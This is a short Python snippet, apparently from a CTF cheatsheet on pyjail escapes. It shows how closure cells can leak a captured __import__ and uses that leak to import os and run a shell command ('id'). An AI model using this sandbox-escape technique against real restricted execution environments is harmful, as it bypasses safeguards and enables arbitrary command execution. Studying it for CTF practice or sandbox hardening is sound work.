# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (user_defined_function.__closure__)
# Family: lambda-default
# What: closure cells leak a captured builtin
def outer():
    imp = __import__
    return lambda: imp

cell = outer().__closure__[0]
cell.cell_contents("os").system("id")
